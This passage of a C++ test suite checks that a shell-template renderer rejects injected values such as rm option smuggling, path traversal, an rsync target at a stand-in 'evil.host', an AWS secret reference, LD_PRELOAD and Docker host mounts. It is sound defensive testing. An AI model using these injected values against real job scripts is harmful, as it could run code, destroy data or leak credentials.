// with the filter's bracket and holds the value escaped: "$CFG" may begin an
// argument and fill a JSON, YAML or TOML file's text. Split, in a '...'
// string or a CSV field, assigned any other way too, or run: the value's rules.
TEST(ValueSinks, JsonThatJqBuildsKeepsValuesStringsThroughVariables) {
  const std::string jq = "CFG=$(jq -n --arg name \"$RUN\" '{run_name: $name}')\n";
  for (const char* use : {"echo \"$CFG\" > config.json", "printf '%s\\n' \"$CFG\" > config.json",
                          "cat > config.json <<EOF\n$CFG\nEOF", "echo \"$CFG\" >> runs.jsonl", "echo \"$CFG\" > c.txt",
                          "echo -n \"${CFG}\" > c.yaml"}) {
    const auto form = "RUN=\"%X%\"\n" + jq + use;
    EXPECT_TRUE(rules(task(form.c_str())).empty()) << form;
    EXPECT_FALSE(refuses(placement(task(form.c_str())), "Bob's run -3 (x)")) << form;
  }
  // (Refused for the value, or the template refused as before.)
  for (const auto& [form, value] : std::vector<std::pair<std::string, std::string>>{
           {"echo \"note: '$CFG'\" > c.yaml", "Bob's run"},
           {"[ -n \"$X\" ] && CFG=\"$RUN\"\necho \"$CFG\" > config.json", "Bob's run"},
           {"cat > c.json <<EOF\n{\"cfg\": $CFG, \"x\": \"$RUN\"}\nEOF", "Bob\"s run"},
           {"echo x,\"$CFG\" >> runs.csv", "a,b"},
           {"echo \"$CFG\" > config.yaml", "${oc.env:AWS_SECRET_ACCESS_KEY}"},
           {"n=CFG\nprintf -v \"$n\" '%s' \"$RUN\"\necho \"$CFG\" > config.json", "Bob's run"},
           {"declare \"$N=$RUN\"\necho \"$CFG\" > config.json", "Bob's run"}}) {
    const auto t = task(("RUN=\"%X%\"\n" + jq + form).c_str());
    EXPECT_TRUE(!rules(t).empty() || refuses(placement(t), value)) << form;
  }
  const auto direct = task("RUN=\"%X%\"\nCFG=$(jq -n --arg name \"$RUN\" '$name')\necho \"$CFG\" > config.json");
  EXPECT_TRUE(!rules(direct).empty() || refuses(placement(direct), "Bob's run"));
  const auto key = task("RUN=\"%X%\"\nCFG=$(jq -n --arg k \"$RUN\" '{($k): 1}')\necho \"$CFG\" > config.json");
  EXPECT_TRUE(!rules(key).empty() || refuses(placement(key), "Bob's run"));
  // (Attack 192: nothing is cut either; a path the file holds keeps its '.'.)
  const auto model = task("M=\"%X%\"\nCFG=$(jq -n --arg m \"$M\" '{model_name_or_path: $m}')\necho \"$CFG\" > run.json\n"
                          "srun python3 finetune.py run.json");
  EXPECT_FALSE(refuses(placement(model), "facebook/opt-1.3b"));
  const auto split = placement(task(("RUN=\"%X%\"\n" + jq + "python3 t.py $CFG").c_str()));
  for (const char* value : {"a b", "a*", "x\t-rf", "[ab]"}) EXPECT_TRUE(refuses(split, value)) << value;
  EXPECT_FALSE(refuses(split, "run1"));
  EXPECT_TRUE(refused(task(("RUN=\"%X%\"\n" + jq + "echo \"$CFG\" > c.sh\nbash c.sh").c_str()), "value-parsed-as-code"));
}

// fr hunt 78: inside a quoted string of an override's value a quote of the
// value would end the string, and Hydra would read the rest as its syntax
// ('x','y' a list of two).
TEST(ValueSinks, AQuotedStringOfAnOverrideKeepsTheValue) {
  expect_refusals({
      {"srun python3 train.py \"+experiment.name='%X%'\"", "x','y", "Bob run (v2), final"},
      {"python3 train.py \"trainer.tag=\\\"%X%\\\"\"", "a\\", "a b"},
      {"torchrun train.py \"run.note='v1 %X%'\" lr=0.1", "it's", "it is"},
  });
  EXPECT_FALSE(placement(task("python3 train.py run.name=%X%")).roles.has(sg::render::ElementRole::OverrideQuotedText));
  // Attack 192: a config group's choice is a file under the config
  // directory (experiment=../../x loads any YAML file and its _target_s).
  expect_refusals({
      {"srun python3 src/train.py experiment=%X% seed=1", "../../../../tmp/evil", "exp/resnet50"},
      {"EXP=\"%X%\"\nsrun python3 src/train.py \"+experiment=${EXP}\"", "a/../../x", "baseline"},
      {"torchrun train.py data.root=%X%", "..", "/datasets/imagenet 2012"},
  });
  EXPECT_FALSE(placement(task("python3 train.py \"run.name='a' b=%X%\"")).roles.has(sg::render::ElementRole::OverrideQuotedText));
}

// Attack 188: find -regex and fd's pattern are regular expressions, where
// '.+' matches every file: the files deleted or run were the value's
// choice. There a value holds no regex operator; a glob (-path, fd -g)
// keeps the glob rule, and fd -F matches text.
TEST(ValueSinks, RegularExpressionsThatChooseFilesHoldNoOperators) {
  expect_refusals({
      {"find ckpt -regex \"ckpt/%X%/step-[0-9]+\\.pt\" -delete", ".+", "bob-run 3"},
      {"find recipes -regex \"recipes/%X%\\.py\" -exec python3 {} \\;", "a|b", "recipe_2"},
      {"find ckpt -iregex \"ckpt/%X%\" -delete", "x\\(y\\)", "run-1"},
      {"fd \"%X%\" ckpt -x rm", "^", "run_1"},
      {"fd -e pt -- \"%X%\" ckpt -X rm", "r.n", "run_1"},
      {"fd -g \"%X%*.pt\" ckpt -x rm", "*", "run.1"},
  });
  // A regex that only lists, and a fixed string, take any text.
  for (const char* form : {"find ckpt -regex \"ckpt/%X%\" -print", "fd -F \"%X%\" ckpt -x rm"})
    EXPECT_FALSE(placement(task(form)).roles.has(sg::render::ElementRole::RegexPattern)) << form;
}

// Attack 190: a value assigned into a variable's text stands at its own
// place there when the variable names a path (OUT="runs/$X"; rm -rf "$OUT"
// with X empty was rm -rf runs/), also through $(basename "$A") and a
// chain of variables.
TEST(ValueSinks, AValueKeepsItsPlaceInAPathThroughVariables) {
  expect_refusals({
      {"X=\"%X%\"\nOUT=\"runs/$X\"\nrm -rf \"$OUT\"", "", "exp1"},
      {"X=\"%X%\"\nOUT=\"runs/$X\"\nrm -rf \"$OUT\"", ".", "exp1"},
      {"A=\"%X%\"\nDEST=\"scratch/$(basename -- \"$A\" .tar)\"\nmkdir -p \"$DEST\"\nrm -rf \"$DEST\"", "", "data/in1k.tar"},
      {"A=\"%X%\"\nDEST=\"scratch/$(basename \"$A\")\"\nrm -rf \"$DEST\"", "a/.", "data/in1k"},
      {"X=\"%X%\"\nY=\"a/${X}\"\nZ=\"$Y\"\nrm -rf \"$Z\"", "", "b"},
      {"X=\"%X%\"\nOUT=\"$X\"\ncp -r res \"$OUT/x\"", "", "b"},
  });
}

// Attack 189: ${V%/*} and ${V%%/*} are made exactly, so a cut after them
// is too (the run directory's name of a checkpoint URI was refused for any
// '-': a cut of a cut was any part).
TEST(ValueSinks, EndCutsThroughAMatchAreMadeExactly) {
  expect_refusals({
      {"C=\"%X%\"\nD=\"${C%/*}\"\nN=\"${D##*/}\"\nsrun python3 e.py --ckpt x.ckpt \"$N\"", "s3://b/-rf/last.ckpt",
       "s3://ml-ckpts/vision/resnet50-baseline/last.ckpt"},
      {"C=\"%X%\"\nrm -rf \"runs/${C%%/*}\"", "../x", "exp-1/a"},
      {"C=\"%X%\"\nrm -rf \"runs/${C%/*}\"", "a/../b/c", "a/b/c"},
      {"C=\"%X%\"\nrm -rf \"runs/${C%/*}\"", "./c", "b/c"},
  });
  EXPECT_EQ(sg::render::ValueCut::replaced({{"/", "", ']'}, {"/", "", '{'}}, "s3://b/run-1/last.ckpt"), "run-1");
  EXPECT_EQ(sg::render::ValueCut::replaced({{"/", "", '['}}, "a/b/c"), "a");
  EXPECT_EQ(sg::render::ValueCut::replaced({{"/", "", ']'}}, "abc"), "abc");
}

// fr hunt 80: after a '/' of the template's, an rsync, scp or rclone word
// is a local path, where a value's ':' chooses no host.
TEST(ValueSinks, ARemoteCopysHostIsChosenOnlyBeforeTheFirstSlash) {
  expect_refusals({
      {"rsync -a out/ \"%X%/\"", "evil.host:x", "backup"},
      {"R=\"%X%\"\nscp out.tar \"$R/x\"", "h:y", "runs"},
      {"rclone copy out \"%X%\"", "remote:b", "backup/run1"},
  });
  for (const char* form : {"rsync -a out/ \"backup/%X%/\"", "R=\"%X%\"\nrsync -a out/ \"backup/$R/\""})
    EXPECT_FALSE(refuses(placement(task(form)), "run:1")) << form;
  // Attack 193: rsync reads an --exclude or --include pattern as a rule.
  expect_refusals({
      {"rsync -a --delete --exclude='ckpt/' --exclude=\"%X%\" src/ dst/", "!", "*.tmp"},
      {"rsync -a --include \"%X%\" --exclude='*' src/ dst/", "+ *", "data/"},
      {"X=\"%X%\"\nrsync -a --exclude=\"$X\" a/ b/", "- x", "x_y"},
  });
  EXPECT_FALSE(placement(task("rsync -a --exclude=\"logs/%X%\" a/ b/")).roles.has(sg::render::ElementRole::RsyncPattern));
}

// fr hunt 77: $(basename "$V") is the value's last component, made and
// checked exactly as ${V##*/} is (it was read as a cut anywhere, so a
// path's '/' was refused): trailing '/'s go, a suffix operand goes from
// its end, and what that makes still meets the part's rules.
TEST(ValueSinks, BasenameOfAValueIsItsLastComponent) {
  for (const char* form : {"RUN=$(basename \"%X%\")\nmkdir -p \"archive/$RUN\"\ncp -r out/. \"archive/$RUN/\"",
                           "rm -rf \"scratch/$(basename -- \"%X%\" .tar)\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  expect_refusals({
      {"RUN=$(basename \"%X%\")\nmkdir -p \"archive/$RUN\"", "runs/..", "runs/2024-05-01 sweep"},
      {"RUN=$(basename \"%X%\")\nmkdir -p \"archive/$RUN\"", "runs/../", "runs/sweep/"},
      {"RUN=$(basename \"%X%\" .txt)\nrm -rf \"$RUN\"", "a/-rf.txt", "a/b/notes.txt"},
      {"RUN=$(basename \"%X%\" .txt)\nrm -rf \"$RUN\"", "a/b/..txt", "a/b/c.txt"},
      {"rm -rf \"$(basename \"%X%\")\"", "///", "x/y//"},
  });
  // What the cut makes, as GNU basename prints it.
  const sg::render::ValueCut::Way base{{"/", "/", 'b'}};
  for (const auto& [value, made] : std::vector<std::pair<std::string, std::string>>{
           {"a/b/c", "c"}, {"a/b//", "b"}, {"c", "c"}, {"///", "/"}, {"", ""}, {"/x", "x"}, {"a b/c d", "c d"}})
    EXPECT_EQ(sg::render::ValueCut::replaced(base, value), made) << value;
  // An option basename is not read with here (-a: many names) leaves a cut anywhere, where '/' may come first.
  expect_refusals({{"RUN=$(basename -a \"%X%\")\nmkdir -p \"archive/$RUN\"", "runs/sweep", "sweep"}});
}

// The 60th and 61st reviews: $(echo "$IMG" | tr '/:' '__') is read as the
// replacements it makes (a value was refused as cut anywhere), when what tr
// writes is a letter, a digit or '_'; echo makes nothing of a
// value that is its options. A replacement that makes a separator of IFS,
// a blank or a glob splits the value there (IFS=,; S=${V//:/,}; cmd $S
// added a word before).
TEST(ValueSinks, TranslationsByTrAreReplacements) {
  for (const char* form : {"S=\"/img/$(echo \"%X%\" | tr '/:' '__').sif\"\napptainer pull \"$S\" docker://x",
                           "I=\"%X%\"\nS=\"$HOME/images/$(echo \"$I\" | tr '/:' '__').sif\"\napptainer exec \"$S\" python3 t.py",
                           "S=\"$(tr '/:' '__' <<< \"%X%\")\"\ncat \"/img/$S.sif\"",
                           "S=\"/img/$(echo \"%X%\" | tr ':@' 'xy')\"\ntouch \"$S\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  EXPECT_FALSE(refuses(placement(task("S=\"/img/$(echo \"%X%\" | tr '/:' '__').sif\"\ntouch \"$S\"")),
                       "nvcr.io/nvidia/pytorch:24.01-py3"));
  expect_refusals({
      {"S=\"/scratch/$(echo \"%X%\" | tr ':' '_')/x\"\nrm -rf \"$S\"", "-n", "run"},
      {"IFS=,\nX=\"%X%\"\nS=${X//:/,}\npython3 t.py $S", "a:--evil", "abc"},
      {"X=\"%X%\"\nS=${X//:/ }\npython3 t.py $S", "a:--evil", "abc"},
  });
  // Writing '/' or a blank is no replacement the rules see exactly.
  EXPECT_TRUE(refused(task("E=$(echo \"%X%\" | tr . /).py\nsrun python3 \"$E\""), "value-parsed-as-code"));
  // fr hunt 82: -s squeezes runs (never removes one, never changes the first
  // character); [:upper:] and [:lower:] first in both sets pair the letters.
  for (const char* tr : {"tr -cs 'A-Za-z0-9' '_'", "tr -s ' /' '__'", "tr '[:upper:] ' '[:lower:]_'",
                         // (attack 198) -s alone, ranges written out.
                         "tr -s '_'", "tr 'A-Z /' 'a-z__'"}) {
    const auto pl = placement(task(std::string("S=$(printf '%s' \"%X%\" | ") + tr + ")\nmkdir -p \"checkpoints/$S\"\nrm -rf \"$S\""));
    EXPECT_FALSE(refuses(pl, "ResNet 50 / run's #2")) << tr;
    EXPECT_EQ(refuses(pl, "-rf"), std::string_view(tr).find("-c") == std::string_view::npos) << tr;  // (-c makes '-' a '_')
  }
}

// Sixty-second review: sed's y command and escapes in sed and tr (\x2d,
// \055) write any character; a blank or a glob a replacement writes for a
// letter splits or matches; ${A[2]:=$V} sets an element of an array of
// options; files of command lines that task runners run are code.
TEST(ValueSinks, RewritesAndRunnersFilesOfTheSixtySecondReview) {
  for (const char* form : {"S=\"$(echo \"%X%\" | sed 'y/:/\\//').py\"\npython3 \"$S\"",
                           "F=$(echo \"%X%\" | sed 's/_/\\x2d/g')\npython3 t.py \"$F\"",
                           "F=$(tr '_' '\\055' <<< \"%X%\")\npython3 t.py \"$F\"",
                           "T=$(echo \"%X%\" | sed 's/X/ /g')\npython3 t.py $T",
                           "cat > package.json <<EOF\n{\"scripts\": {\"train\": \"python3 t.py --lr %X%\"}}\nEOF\nnpm run train",
                           "cat > Procfile <<EOF\nweb: python3 t.py --name %X%\nEOF\nnf start",
                           "cat > justfile <<EOF\ntrain:\n\tpython3 t.py --name %X%\nEOF\njust train"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  // Arrays of options: an element set by ${A[2]:=...} is no list the template wrote.
  EXPECT_TRUE(refused(task("E=\"%X%\"\nA=(--nodes=2 -l)\n: \"${A[2]:=$E}\"\nsrun \"${A[@]}\" python3 t.py"),
                      "placeholder-command"));
  expect_refusals({
      {"python3 t.py ${X//Q/ }\nX=\"%X%\"", "aQb", "ab"},
      {"X=\"%X%\"\npython3 t.py ${X//Q/*}", "Q", "ab"},
  });
  // A pattern read inexactly with a blank for it leaves no value to split.
  EXPECT_TRUE(refuses(placement(task("X=\"%X%\"\npython3 t.py ${X//[[:upper:]]/ }")), "ab"));
}

// Sixty-second review: a value given to a function the template wrote is
// no option of it; the rule of the place its body puts the parameter holds
// (through $2, a local, "$@", shift).
TEST(ValueSinks, ArgumentsOfTheTemplatesFunctionsMeetTheRulesOfTheirBody) {
  expect_refusals({
      {"f() { local lr=\"$2\"; python3 -u t.py --lr \"$lr\"; }\nf a \"%X%\"", "-1;x", "-1"},
      {"f() { rm \"$1\"; }\nf \"%X%\"", "-rf", "old.log"},
      {"f() { local a=\"$1\"; rm \"$a\"; }\nf \"%X%\"", "-rf", "old.log"},
      {"f() { python3 t.py \"$@\"; }\nf \"%X%\"", "--evil", "run1"},
      {"f() { shift; rm \"$1\"; }\nf a \"%X%\"", "-rf", "old.log"},
      {"f() { while getopts 'dc:' o; do :; done; }\nf \"%X%\"", "-d", "run1"},
  });
}

// A variable named after a family of programs' variables (GIT_BRANCH,
// CONDA_ENV, PYTHON_SCRIPT) is code only in their environment: assigned and
// never exported, it stays in the shell, and the script fails at its start
// where the job's environment holds it (bash keeps an imported variable
// exported whatever the template assigns it).
std::string rendered(const std::string& form, const std::string& name) {
  sg::compiler::Source source("t.tpl", kHead + task(form));
  const auto c = sg::compiler::compile(source);
  EXPECT_NE(c.renderer, nullptr) << form;
  if (!c.renderer) return {};
  sg::render::Values values;
  values.task = {{"id", "0123456789abcdef"}, {"name", name}};
  std::string script;
  std::vector<sg::render::RenderError> errors;
  EXPECT_TRUE(c.renderer->render(values, script, errors)) << form << (errors.empty() ? "" : errors[0].message);
  return script;
}
// What bash prints running `script` with `environment` before it, and its status.
std::pair<std::string, int> run_bash(const std::string& script, const std::string& environment) {
  std::string path = sg::test::temp_pattern("sg-shell-only");
  const int fd = mkstemp(path.data());
  EXPECT_GE(fd, 0);
  close(fd);
  std::ofstream(path) << script;
  std::string out;
  FILE* p = popen(("env " + environment + " bash " + path + " 2>/dev/null").c_str(), "r");
  for (char buffer[256]; p && fgets(buffer, sizeof buffer, p);) out += buffer;
  const int status = p ? pclose(p) : -1;
  std::remove(path.c_str());
  return {out, status};
}

TEST(ValueSinks, FamilyNamedVariablesNeverExportedStayInTheShell) {
  for (const char* form : {"CONDA_ENV=%X%\nconda activate \"$CONDA_ENV\"", "GIT_BRANCH=\"%X%\"\ngit checkout \"$GIT_BRANCH\"",
                           "PYTHON_SCRIPT=%X%\npython3 \"$PYTHON_SCRIPT\"", "NODE_LIST=%X%\nsrun -w \"$NODE_LIST\" hostname",
                           "read -r TORCH_VERSION <<< \"%X%\"\npip install \"torch==$TORCH_VERSION\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  // Exported by any means, or a name bash reads or a job's environment
  // commonly holds: code as before.
  for (const char* form : {"GIT_BRANCH=%X%\nexport GIT_BRANCH", "set -a\nGIT_BRANCH=%X%", "B=%X%\nGIT_BRANCH=\"$B\" git pull",
                           "B=%X%\nenv GIT_BRANCH=\"$B\" git pull", "declare -x GIT_BRANCH=%X%",
                           "f() { local -x GIT_BRANCH=$1; git pull; }\nf \"%X%\"", "GIT_BRANCH=%X%\neval 'export GIT_BRANCH'",
                           "PYTHONPATH=%X%\npython3 t.py", "LD_PRELOAD=%X%\npython3 t.py", "GIT_SSH_COMMAND=%X%\ngit pull",
                           "LC_ALL=%X%\necho hi", "BASH_ALIASES[x]=%X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  const auto script = rendered("GIT_BRANCH=\"%X%\"\necho \"branch=$GIT_BRANCH\"", "feature/new loss");
  EXPECT_EQ(run_bash(script, "-u GIT_BRANCH"), std::make_pair(std::string("branch=feature/new loss\n"), 0)) << script;
  EXPECT_EQ(run_bash(script, "-u GIT_BRANCH bash -c 'GIT_BRANCH=x; exec \"$0\" \"$@\"'").first, "branch=feature/new loss\n");
  for (const char* environment : {"GIT_BRANCH=main", "SHELLOPTS=allexport"}) {
    const auto [out, status] = run_bash(script, environment);
    EXPECT_EQ(out, "") << environment;
    EXPECT_NE(status, 0) << environment;
  }
}

// srun and sbatch write the job's output and errors to the files -o, -e,
// --output and --error name (Slurm filling in %j, %t, ...): with what the
// command prints, which a later command may run as code; the option's
// value names the file and is not written into it.
TEST(ValueSinks, SlurmOutputFilesHoldWhatTheJobPrints) {
  for (const char* form : {"srun -o run.py echo \"%X%\"\npython3 run.py", "srun -lo run.sh echo \"%X%\"\nbash run.sh",
                           "srun --error=run.py echo \"%X%\"\npython3 run.py", "srun -e \"run%j.py\" echo \"%X%\"\npython3 run*.py",
                           "sbatch --wait -o job.log train.sbatch \"%X%\"\nbash job.log"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  for (const char* form : {"OUT=%X%\nsrun --output=\"$OUT\" python3 train.py", "srun --output=\"logs/%j-%X%\" python3 train.py",
                           "sort -o \"%X%\" in.txt\npython3 train.py"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

// tr -d SET, tr -cd SET and printf '%s' "$V" | tr -c SET X are exact
// replacements (a bracket class, ranges and [:alnum:] read as tr reads
// them): the rules see what tr leaves of the value.
TEST(ValueSinks, DeletionsAndComplementsByTrAreReplacements) {
  for (const char* form : {"S=$(printf '%s' \"%X%\" | tr -c 'a-zA-Z0-9' '_')\nmkdir -p \"runs/$S\"",
                           "S=$(echo \"%X%\" | tr -cd '[:alnum:]._-')\nrm -rf \"runs/$S\"",
                           "S=$(tr -d ' /' <<< \"%X%\")\nmkdir \"$S\"",
                           // (fr36/04: tr's \n in a set)
                           "S=$(echo \"%X%\" | tr -c 'A-Za-z0-9_\\n' '_')\nmkdir -p \"runs/$S\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  expect_refusals({
      {"S=$(echo \"%X%\" | tr -c 'a-z.\\n' '_')\nrm \"$S\"", "..", "exp 1"},
      {"S=$(printf %s \"%X%\" | tr -cd 'a-z0-9._-')\nrm -rf \"runs/$S\"", "..", "exp 1"},
      {"S=$(tr -cd 'a-z-' <<< \"%X%\")\nrm \"$S\"", "-rf", "old log"},
      {"S=$(printf '%s' \"%X%\" | tr -c 'a-z.' '_')\nrm \"$S\"", "..", "-rf"},
      {"S=$(tr -d '-' <<< \"%X%\")\nrm \"$S\"", "+x", "-rf"},
      {"S=$(tr a b <<< \"%X%\")\nrm \"$S\"", "-rf", "old log"},
  });
  // A here-string is no argument: only what reads it back is one.
  EXPECT_FALSE(refuses(placement(task("tr a b <<< \"%X%\" > out.txt")), "-rf"));
  EXPECT_FALSE(refuses(placement(task("cat <<< %X%")), "-rf"));
}

// Sixty-third review: files a program rewrites in place (gawk -i inplace,
// perl -pi) or its awk program prints into hold what it was given (-v,
// the environment); runners of recipes put their arguments and the
// environment into shell commands; a script may print its environment
// into a file that then runs.
TEST(ValueSinks, WritersAndRunnersOfTheSixtyThirdReview) {
  for (const char* form : {"cp run.sh.in run.sh\ngawk -i inplace -v lr=\"%X%\" '{ gsub(/@LR@/, lr); print }' run.sh\nbash run.sh",
                           "LR=\"%X%\" perl -pi -e 's/@LR@/$ENV{LR}/g' run.sh\nbash run.sh",
                           "awk -v n=\"%X%\" 'BEGIN { print \"export N=\" n > \"job_env.sh\" }'\nsource job_env.sh",
                           "awk -v n=\"%X%\" 'BEGIN { f = \"x.sh\"; print n >> f }'\nbash x.sh",
                           "just train %X% 10", "snakemake --cores 4 --config lr=%X%", "pixi run train %X%",
                           "task train -- %X%", "nextflow run main.nf --lr %X%", "miniwdl run wf.wdl lr=%X%",
                           "bmake LR=%X%", "export RUN_NAME=\"%X%\"\npython3 make_launcher.py > launch.sh\nbash launch.sh",
                           "export RUN_NAME=\"%X%\"\n./gen > run.py\npython3 run.py"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // What a recipe finds in its environment is a plain word there, as make's (fr40/02).
  for (const char* form : {"LR=\"%X%\" just train", "export LR=\"%X%\"\nsnakemake -j1", "export RUN=\"%X%\"\ngo-task train"}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(refuses(pl, "0.1; touch x")) << form;
    EXPECT_TRUE(refuses(pl, "$(id)")) << form;
    EXPECT_FALSE(refuses(pl, "outputs/run_7")) << form;
  }
  for (const char* form : {"awk -v t=\"%X%\" '$3 > t {print}' data.txt > sel.txt\npython3 train.py",
                           "awk -v n=\"%X%\" 'BEGIN { print n > \"/dev/stderr\" }'\npython3 train.py",
                           "sed -i 's/a/b/' \"%X%\"", "RUN_NAME=\"%X%\"\npython3 make_launcher.py > launch.sh\nbash launch.sh",
                           "export RUN_NAME=\"%X%\"\npython3 train.py > train.log\npython3 eval.py"})
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("just train ${CLEARML_TASK.id}")).empty());
}

// Sixty-third review: in a runner's argument list an option's value may be
// the list's next word (docker run -e NAME=VALUE), checked as the runner
// reads it; never the template's next word.
TEST(ValueSinks, AnOptionsValueMayBeTheNextWordOfTheArgumentList) {
  sg::compiler::Source source("t.tpl", kHead + "docker run --rm ${CLEARML_TASK.container.arguments} ${CLEARML_TASK.container.image} python3 t.py\n");
  const auto c = sg::compiler::compile(source);
  ASSERT_NE(c.renderer, nullptr);
  const auto renders = [&](const std::string& arguments) {
    sg::render::Values values;
    values.task = {{"id", "0123456789abcdef"},
                   {"container", {{"image", "nvcr.io/nvidia/pytorch:24.01-py3"}, {"arguments", arguments}}}};
    std::string script;
    std::vector<sg::render::RenderError> errors;
    return c.renderer->render(values, script, errors);
  };
  EXPECT_TRUE(renders("--ipc=host -e NCCL_DEBUG=INFO --shm-size 8g"));
  for (const char* arguments : {"--ipc=host -e", "-e LD_PRELOAD=/tmp/x.so", "-v /:/host", "-e A=1 touch", "--shm-size"})
    EXPECT_FALSE(renders(arguments)) << arguments;
}

// Sixty-fourth review: names exported by brace expansion or quoting, or
// through a nameref, may be any family variable; a script's output carries
// the exported variables through pipes, groups and srun -o too.
TEST(ValueSinks, ExportsAndScriptOutputsOfTheSixtyFourthReview) {
  for (const char* form : {"PERL5LIB=%X%\nexport {PERL5LIB,DATA_HOME}", "GIT_BRANCH=%X%\nexport GIT_{BRANCH,}",
                           "GIT_BRANCH=%X%\ndeclare -n b=GIT_BRANCH\nexport b", "GIT_BRANCH=%X%\nexport \"GIT_\"BRANCH",
                           "PERL5LIB=%X%\nperl t.pl",
                           "export W=\"%X%\"\npython3 make_launcher.py | tee launch.sh >/dev/null\nbash launch.sh",
                           "export W=\"%X%\"\nsrun -o launch.sh python3 make_launcher.py\nbash launch.sh",
                           "export W=\"%X%\"\n{ echo '#!/bin/bash'; python3 make_launcher.py; } > launch.sh\nbash launch.sh"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("GIT_BRANCH=%X%\ngit checkout \"$GIT_BRANCH\"\nexport PATH")).empty());
  // An argument list among the options of a program no table here knows
  // (python3 -X, perl -I, torchrun's rendezvous) chooses code; after the
  // script it is the script's, and a runner's list is checked word by word.
  const std::string list = "${CLEARML_TASK.container.arguments}";
  for (const std::string& form : {"python3 " + list + " train.py", "python3 -u " + list + " train.py",
                                 "srun torchrun --nproc-per-node=4 " + list + " train.py", "perl " + list + " -e 1"})
    EXPECT_TRUE(refused(form + "\n", "value-parsed-as-code")) << form;
  for (const std::string& form : {"python3 train.py " + list, "docker run --rm " + list + " img python3 t.py",
                                 "singularity exec " + list + " img.sif python3 t.py"})
    EXPECT_TRUE(rules(form + "\n").empty()) << form;
}

// Sixty-fourth review, the rest: editors that need no -i (sd, rpl, replace,
// xmlstarlet ed -L, dasel put), template renderers that fill a file with
// the environment (j2, gomplate, dockerize, consul-template) or cpp's
// macros write the files they name; gnuplot reads commands from '-' and,
// with only options (-persist), from standard input; a search list
// exported under a name no rule knows (R_LIBS_SITE) holds no absolute element.
TEST(ValueSinks, EditorsRenderersAndSearchListsOfTheSixtyFourthReview) {
  for (const char* form : {"R=\"%X%\"\nsd __R__ \"$R\" launch.sh\nbash launch.sh", "rpl -q OLD \"%X%\" run.sh\nbash run.sh",
                           "replace OLD \"%X%\" -- run.sh\nbash run.sh",
                           "xmlstarlet ed -L -u /a -v \"%X%\" run.py\npython3 run.py",
                           "dasel put -f run.py -v \"%X%\" .a\npython3 run.py",
                           "export W=\"%X%\"\nj2 -o launch.sh launch.sh.j2\nbash launch.sh",
                           "export W=\"%X%\"\ngomplate -f l.tmpl -o launch.sh\nbash launch.sh",
                           "export W=\"%X%\"\ndockerize -template l.tmpl:launch.sh true\nbash launch.sh",
                           "W=\"%X%\" consul-template -once -template \"l.ctmpl:launch.sh\"\nbash launch.sh",
                           "export W=\"%X%\"\ncookiecutter --no-input gh:x/y\npython3 train.py",
                           "cpp -P -DNAME=\"%X%\" launch.sh.in -o launch.sh\nbash launch.sh",
                           "gnuplot -persist <<EOF\nset title \"%X%\"\nEOF",
                           "gnuplot -e \"set term png\" - <<EOF\nset title \"%X%\"\nEOF"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // What they write that nothing runs stays data.
  for (const char* form : {"R=\"%X%\"\nsd __R__ \"$R\" config.yaml\npython3 train.py",
                           "export W=\"%X%\"\nj2 -o config.yaml config.yaml.j2\npython3 train.py --config config.yaml",
                           "gnuplot plot.gp <<EOF\nset title \"%X%\"\nEOF"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  expect_refusals({
      {"export R_LIBS_SITE=\"%X%\"\nRscript prep.R", "renv/library:/tmp/evil", "renv/library"},
      {"export GUILE_LOAD_PATH=\"%X%\"", "lib;~/evil", "lib"},
      {"export MODEL_PATH=\"%X%\"", "s3://bucket/model", "models/resnet50"},
      {"export DATA_DIRS=\"%X%\"", "a:..", "a:b"},
      {"export RUN_NOTES=\"%X%\"", "/etc/x", "see s3://bucket/run and a:/b"},
      // The file an editor rewrites is one a value may not choose anywhere.
      {"sd OLD NEW \"%X%\"", "/home/u/.bashrc", "config.yaml"},
      {"xmlstarlet ed -L -u /a -v 1 \"%X%\"", "../../x.xml", "conf.xml"},
  });
}

// Sixty-fifth review: perl's, ruby's and octave's -W is a switch (perl -W
// -e CODE); interpreters under other names (octave-cli, ipython3, php8.2,
// bash-static) and code options of others (php -R, ROOT's macro calls,
// maxima --batch-string); R's start-up file; a launcher option that may
// take the next word leaves the script among the words after it.
TEST(ValueSinks, InterpretersAndLaunchersOfTheSixtyFifthReview) {
  for (const char* form : {"LR=$(perl -W -e \"print %X%\")", "ruby -W -e \"puts '%X%'\"", "octave -W --eval \"f(%X%)\"",
                           "octave-cli --no-gui --eval \"f(%X%)\"", "ipython3 -c \"print('%X%')\"",
                           "php8.2 -r \"echo '%X%';\"", "php -R 'echo \"%X%\";'", "bash-static -c \"echo %X%\"",
                           "root -l -b -q 'run.C(\"%X%\")'", "maxima --batch-string=\"x: %X%;\"",
                           "wolframscript -code \"%X%\"", "cat > .Rprofile <<EOF\n.libPaths(\"%X%\")\nEOF\nRscript a.R",
                           // logging.config.fileConfig evaluates a handler's args= and kwargs=.
                           "cat > logging.ini <<EOF\n[handler_file]\nkwargs={\"maxBytes\": %X%}\nEOF"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"perl -W run.pl \"%X%\"", "ruby -I lib train.rb \"%X%\"", "octave-cli run.m \"%X%\"",
                           "git config user.name \"%X%\"", "git config --global user.email \"%X%\"",
                           "GIT_AUTHOR_NAME=\"%X%\" git commit -m x", "git -c user.name=\"%X%\" -c user.email=a@b commit -m x"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  for (const char* form : {"git config core.pager \"%X%\"", "git config --file user.name core.pager \"%X%\"",
                           "git config \"%X%\" x"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(refuses(placement(task("git config user.name \"%X%\"")), "--global"));
  expect_refusals({
